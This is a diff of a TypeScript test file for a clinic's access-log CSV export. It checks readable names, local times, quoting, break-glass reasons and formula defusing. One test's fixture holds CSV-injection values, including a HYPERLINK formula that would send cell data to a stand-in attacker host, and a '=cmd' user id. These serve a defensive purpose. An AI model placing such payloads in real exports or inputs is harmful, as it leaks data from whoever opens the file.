@@ -1,5 +1,6 @@
 import { formulaStarts } from '@portalflow/engine/text';
 import { describe, expect, it } from 'vitest';
+import { parseCsv } from '../../../packages/engine/test/support/parse-csv.ts';
 import { type AccessRow, accessRowsToCsv, nextSort, sortAccessRows } from '../src/audit/accessLog.ts';
 
 const row = (id: number, over: Partial<AccessRow>): AccessRow => ({
@@ -81,45 +82,98 @@ describe('nextSort', () => {
   });
 });
 
+/** How the tests' clinic names people and roles; its clock is Denver's. */
+const words = {
+  person: (id: string) => ({ u1: 'Pat Kim', u2: 'Morgan Diaz' })[id],
+  role: (id: string) => ({ auditor: 'Auditor', designer: 'Operations lead' })[id] ?? id,
+  timeZone: 'America/Denver',
+};
+
+/** The CSV as a spreadsheet reads it, after its byte order mark. */
+function read(csv: string) {
+  expect(csv.startsWith('\uFEFF')).toBe(true);
+  const [header, ...lines] = parseCsv(csv.slice(1));
+  return lines.map((l) => Object.fromEntries(header!.map((h, i) => [h, l[i]])));
+}
+
 describe('accessRowsToCsv', () => {
-  it('writes a header and one line per row, quoting and defusing formulas', () => {
-    const csv = accessRowsToCsv([
-      row(1, { detail: 'said "hi", left' }),
-      row(2, { detail: '=HYPERLINK("x")', userId: null }),
-    ]);
-    const lines = csv.trimEnd().split('\n');
-    expect(lines[0]).toBe(
-      'id,at,userId,role,action,instanceId,dataCategory,outcome,detail,emergencyAccessId,emergencyReason',
+  it('starts with a byte order mark, then names, role titles, plain words and clinic times; ids last', () => {
+    const csv = accessRowsToCsv(
+      [
+        row(1, { instanceId: 'i1', workflowTitle: 'Refill request' }),
+        row(2, {
+          userId: 'u2',
+          role: 'designer',
+          action: 'GET /api/audit/access-log',
+          dataCategory: 'access-log',
+        }),
+      ],
+      words,
     );
-    expect(lines[1]).toBe(
-      '1,2026-11-21T10:00:00.000Z,u1,auditor,GET /api/instances/:id,,phi,allow,"said ""hi"", left",,',
+    const header = parseCsv(csv.slice(1))[0]!;
+    expect(header.slice(-3)).toEqual(['entry id', 'person id', 'role id']);
+    const [opened, read2] = read(csv);
+    expect(opened).toMatchObject({
+      when: '2026-11-21T03:00:00-07:00',
+      who: 'Pat Kim',
+      role: 'Auditor',
+      what: 'Opened Refill request',
+      route: 'GET /api/instances/:id',
+      request: 'i1',
+      category: 'Patient data',
+      outcome: 'allowed',
+      'person id': 'u1',
+      'role id': 'auditor',
+    });
+    expect(read2).toMatchObject({
+      who: 'Morgan Diaz',
+      role: 'Operations lead',
+      what: 'Read the access log',
+      'role id': 'designer',
+    });
+  });
+
+  it('says who when no name is known: the id, or not signed in', () => {
+    const [known, unknown, anonymous] = read(
+      accessRowsToCsv(
+        [row(1, {}), row(3, { userId: 'u9' }), row(4, { userId: null, outcome: 'deny' })],
+        words,
+      ),
     );
-    expect(lines[2]).toBe(
-      '2,2026-11-22T10:00:00.000Z,,auditor,GET /api/instances/:id,,phi,allow,"\'=HYPERLINK(""x"")",,',
-    );
-    expect(csv.endsWith('\n')).toBe(true);
+    expect(known!.who).toBe('Pat Kim');
+    expect(unknown!.who).toBe('u9');
+    expect(anonymous).toMatchObject({ who: 'not signed in', outcome: 'refused', 'person id': '' });
+  });
+
+  it('quotes commas and quotes', () => {
+    const [line] = read(accessRowsToCsv([row(1, { detail: 'said "hi", left' })], words));
+    expect(line!.detail).toBe('said "hi", left');
   });
 
   it('names the break-glass grant and its reason on rows that relied on one', () => {
-    const csv = accessRowsToCsv([row(1, { emergencyAccessId: 'g-1', emergencyReason: 'Code blue, bed 4' })]);
-    expect(csv.trimEnd().split('\n')[1]).toMatch(/,g-1,"Code blue, bed 4"$/);
+    const [line] = read(
+      accessRowsToCsv([row(1, { emergencyAccessId: 'g-1', emergencyReason: 'Code blue, bed 4' })], words),
+    );
+    expect(line).toMatchObject({ 'break-glass grant': 'g-1', 'break-glass reason': 'Code blue, bed 4' });
   });
 
   it('leaves no formula anywhere, not even after a ";" mid-cell (European list separator)', () => {
-    const csv = accessRowsToCsv([
-      row(1, {
-        emergencyAccessId: 'g-1',
-        emergencyReason: 'Code blue;=HYPERLINK("http://evil.example/?"&A1)',
-        detail: 'x\t+1|@SUM(A1)',
-      }),
-    ]);
+    const csv = accessRowsToCsv(
+      [
+        row(1, {
+          emergencyAccessId: 'g-1',
+          emergencyReason: 'Code blue;=HYPERLINK("http://evil.example/?"&A1)',
+          detail: 'x\t+1|@SUM(A1)',
+          userId: '=cmd',
+        }),
+      ],
+      words,
+    );
     expect(csv).toContain('HYPERLINK');
-    expect(formulaStarts(csv)).toBe(false);
+    expect(formulaStarts(csv.slice(1))).toBe(false);
   });
 
   it('writes only the header for no rows', () => {
-    expect(accessRowsToCsv([])).toBe(
-      'id,at,userId,role,action,instanceId,dataCategory,outcome,detail,emergencyAccessId,emergencyReason\n',
-    );
+    expect(read(accessRowsToCsv([], words))).toEqual([]);
   });
 });
